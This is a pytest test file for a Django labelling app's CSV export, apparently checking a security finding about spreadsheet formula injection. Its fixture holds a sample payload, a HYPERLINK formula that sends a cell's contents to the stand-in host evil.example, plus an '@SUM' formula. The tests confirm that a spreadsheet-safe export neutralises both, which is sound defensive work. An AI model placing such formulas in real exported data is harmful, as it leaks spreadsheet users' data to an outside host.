"""Finding 11: exports stay byte-compatible by default and can be made safe for spreadsheets."""

import csv
import io

import pytest
from django.contrib.auth.models import Permission, User
from django.core.management import call_command

from annotator.labels import set_label
from annotator.models import Query
from catalog.importers import import_inat
from tests.factories import inat_document

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def project(write_json):
    import_inat(write_json(inat_document(images=3)))
    query = Query.objects.create(text=FORMULA, notes="@SUM(1+1)")
    set_label(query_id=query.pk, image_id=1000, value="relevant", source="api")
    return query


def test_the_default_export_keeps_the_text_as_it_is(project, tmp_path):
    call_command("export_inquire", str(tmp_path))
    rows = list(csv.reader((tmp_path / "inquire_queries.csv").open(encoding="utf-8")))
    assert rows[1][2] == FORMULA


def test_the_spreadsheet_safe_export_neutralises_formulas(project, tmp_path):
    call_command("export_inquire", str(tmp_path), "--spreadsheet-safe")
    rows = list(csv.reader((tmp_path / "inquire_queries.csv").open(encoding="utf-8")))
    assert rows[1][2] == "'" + FORMULA
    assert rows[1][1] == str(project.pk)  # numbers untouched


def test_the_download_form_offers_it(client, project):
    user = User.objects.create(username="curator")
    user.user_permissions.add(Permission.objects.get(codename="export_labels"))
    client.force_login(user)
    page = client.get(f"/dashboard/{project.pk}/")
    assert page.status_code == 403  # exporting is not viewing the dashboard
    chosen = client.get("/exports/", {"name": "inquire_queries.csv", "spreadsheet_safe": "1", "query": project.pk})
    assert chosen.status_code == 302
    response = client.get(chosen["Location"])
    body = b"".join(response.streaming_content).decode()
    assert list(csv.reader(io.StringIO(body)))[1][2] == "'" + FORMULA
    assert response["Content-Disposition"].endswith(f'inquire_queries_q{project.pk}_spreadsheet.csv"')
    assert client.get("/exports/", {"name": "passwords.csv"}).status_code == 404
